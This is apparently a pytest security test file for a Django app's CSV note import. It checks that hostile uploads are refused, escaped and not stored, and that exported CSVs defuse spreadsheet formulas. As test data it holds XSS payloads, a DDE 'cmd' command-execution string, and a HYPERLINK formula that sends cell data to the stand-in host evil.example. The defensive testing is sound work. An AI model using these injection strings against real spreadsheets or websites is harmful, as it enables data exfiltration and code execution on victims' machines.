"""Uploads: the facilitator's CSV import is the only upload. What a hostile or broken file
gets: a plain refusal, nothing stored, nothing of it run or echoed as markup.

Already tested in ``tests/cafes/test_import_page.py``: a file that is not UTF-8 or is empty
(``test_a_file_that_is_not_utf8_csv_gets_a_clear_error``), over 5 MB
(``test_a_file_over_5_mb_is_refused``), only the event's facilitators may upload
(``test_only_the_events_facilitators_may_import``); a bad row refuses the whole file
(``test_a_file_with_a_bad_row_imports_nothing_and_names_the_line``); HTML in a cell is
refused (``tests/cafes/test_csv.py::test_a_bad_row_is_reported_by_line_and_nothing_is_imported``);
100,000 bad rows give a bounded page
(``tests/security/test_probes.py::test_an_upload_of_many_bad_rows_lists_the_first_hundred_and_counts_the_rest``).
"""

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from cafes.csv_io import export_csv, read_file
from cafes.models import ChatMessage, ClosingAnswer, Note
from reports.document import build_document
from reports.renderers import render
from tests.cafes.conftest import make_event, staff_viewer
from tests.security.test_report_xss import runs_in_a_spreadsheet

pytestmark = pytest.mark.django_db

HEADER = b"round,table,kind,text,role,question\n"


def xlsx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return out.getvalue()


@pytest.fixture
def event():
    return make_event()


@pytest.fixture
def facilitator(event) -> Client:
    client = Client()
    client.force_login(staff_viewer(event).user)
    return client


def upload(client, event, content: bytes, *, name="notes.csv", content_type="text/csv"):
    return client.post(
        reverse("cafes:import_notes", args=[event.slug]),
        {"file": SimpleUploadedFile(name, content, content_type=content_type)},
    )


def nothing_stored(event) -> bool:
    return not (
        Note.objects.filter(event=event).exists()
        or ChatMessage.objects.filter(event=event).exists()
        or ClosingAnswer.objects.filter(question__event=event).exists()
    )


@pytest.mark.parametrize(
    ("content", "name", "content_type", "message"),
    [
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "photo.png", "image/png", "not UTF-8"),
        (xlsx(), "notes.xlsx", "application/vnd.ms-excel", "not UTF-8"),
        (b"MZ\x90\x00\x03" + bytes(200), "notes.csv.exe", "application/x-msdownload", "UTF-8"),
        (
            b"<html><script>alert(1)</script></html>\n",
            "notes.html",
            "text/html",
            "the header must be",
        ),
        (b"\xef\xbb\xbf", "notes.csv", "text/csv", "the file is empty"),
        (HEADER + b"1,1,story," + b"x" * 200_000 + b",,\n", "notes.csv", "text/csv", "larger"),
        (HEADER + b"1,1,story,x" + b"," * 100_000 + b"\n", "notes.csv", "text/csv", "columns"),
    ],
    ids=["binary", "spreadsheet", "program", "html-page", "bom-only", "huge-cell", "wide-row"],
)
def test_a_file_that_is_not_our_csv_is_refused_and_stores_nothing(
    facilitator, event, content, name, content_type, message
):
    response = upload(facilitator, event, content, name=name, content_type=content_type)
    assert response.status_code == 400
    assert message in response.content.decode()
    assert len(response.content) < 50_000  # the file is not echoed back
    assert nothing_stored(event)


@pytest.mark.parametrize(
    "row",
    [
        b"1,1,<script>alert(1)</script>,Fine words,,\n",
        b"<img src=x onerror=alert(1)>,1,story,Fine words,,\n",
        b"1,1,story,Fine words,<svg onload=alert(1)>,\n",
    ],
)
def test_a_hostile_value_named_in_an_error_is_shown_as_words(facilitator, event, row):
    response = upload(facilitator, event, HEADER + row)
    page = response.content.decode()
    assert response.status_code == 400
    assert "line 2" in page
    for raw in ("<script>alert", "<img src=x", "<svg onload"):
        assert raw not in page
    assert "&lt;" in page  # it is named, escaped
    assert nothing_stored(event)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@sum(a1:a9)",
    "\ufeff=1+1",
]


def formula_file() -> bytes:
    rows = [["round", "table", "kind", "text", "role", "question"]]
    rows += [["1", "1", "story", text, "", ""] for text in FORMULAS]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode()


def test_formulas_in_an_upload_are_stored_as_words_and_defused_in_the_report_csv(
    facilitator, event
):
    assert upload(facilitator, event, formula_file()).status_code == 302
    stored = set(Note.objects.filter(event=event).values_list("text", flat=True))
    assert stored == {text.lstrip("\ufeff") for text in FORMULAS} or stored == set(FORMULAS)
    doc = build_document(event=event, version=1, compiled_at=timezone.now())
    cells = [
        cell
        for row in csv.reader(io.StringIO(render(doc, "csv").decode("utf-8-sig")))
        for cell in row
    ]
    defused = [c for c in cells if c.startswith("'") and runs_in_a_spreadsheet(c[1:])]
    assert len(defused) >= len(FORMULAS)  # each note (and theme titles made of them)
    for cell in cells:
        assert not runs_in_a_spreadsheet(cell), cell


def test_the_export_notes_csv_defuses_formulas_too(facilitator, event):
    assert upload(facilitator, event, formula_file()).status_code == 302
    exported = export_csv(event=event)
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    for cell in cells:
        assert not runs_in_a_spreadsheet(cell), cell
    # Imported again, the words are as typed: the quote the export added is taken off.
    stored = set(Note.objects.filter(event=event).values_list("text", flat=True))
    again = {row.text for row in read_file(io.StringIO(exported)).rows if row.kind != "comment"}
    assert stored <= again
